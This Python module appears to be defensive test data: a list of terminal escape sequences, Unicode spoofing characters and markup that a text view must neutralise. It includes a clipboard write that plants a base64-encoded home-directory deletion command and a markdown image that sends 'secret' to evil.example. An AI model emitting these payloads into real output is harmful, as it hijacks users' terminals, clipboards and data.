"""Texts that a model, a vendor or a user may send, and that must not act on anything."""

PAYLOADS = {
    "colour": "\x1b[5;45mblink",
    "clear screen": "\x1b[2J\x1b[H",
    "cursor up": "\x1b[10A\x1b[2K overwritten",
    "reset": "\x1bc",
    "alternate screen": "\x1b[?1049h",
    "title": "\x1b]0;pwned\x07",
    "title, string terminator": "\x1b]2;pwned\x1b\\",
    "hyperlink": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "clipboard, unterminated": "\x1b]52;c;cm0gLXJmIH4=",
    "device control": "\x1bP$q q\x1b\\",
    "application command": "\x1b_Gf=24,s=1;AAAA\x1b\\",
    "privacy message": "\x1b^secret\x1b\\",
    "start of string": "\x1bXsecret\x1b\\",
    "report request": "\x1b[6n\x1b[c\x1b[>c",
    "mouse mode": "\x1b[?1000h",
    "keypad string": "\x1b[1;2;3;4y",
    "C1 control sequence": "\x9b5;45mblink",
    "C1 system command": "\x9d0;pwned\x9c",
    "C1 device control": "\x90+q\x9c",
    "nested": "\x1b\x1b[2J[2J",
    "cut in two": "\x1b[\x1b[2J2J",
    "half a sequence": "text \x1b[",
    "bell and backspace": "safe\x07\x08\x08\x08\x08evil",
    "carriage return": "approved\rrejected",
    "NUL and DEL": "a\x00b\x7fc",
    "shift out": "\x0e\x0funreadable",
    "vertical tab and form feed": "a\x0bb\x0cc",
    "direction override": "user\u202etxt.exe",
    "direction isolates": "\u2066a\u2067b\u2068c\u2069",
    "invisible tags": "hi\U000e0041\U000e0042",
    "lone surrogate": "broken \ud83d here",
    "line separators": "a\u2028b\u2029c\x85d",
    "markup": "[bold red]x[/] [link=https://evil.example]y[/link]",
    "markup that does not close": "[/] [/bold]",
    "emoji code": ":skull: :pile_of_poo:",
    "entities": "&#27;[2J &#x202e; &#13;",
    "html": '<script>alert(1)</script><img src="https://evil.example/p.png">',
    "image": "![x](https://evil.example/?q=secret)",
}

RAW = (
    *(chr(c) for c in range(0x20) if chr(c) not in "\n\t"),
    *(chr(c) for c in range(0x7F, 0xA0)),
    *"\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    *(chr(c) for c in range(0xD800, 0xE000)),
    "\U000e0041",
)
"""Characters that no view may let through."""


def raw_in(text: str) -> set[str]:
    """The characters of a text that should not be there."""
    return set(text) & set(RAW)
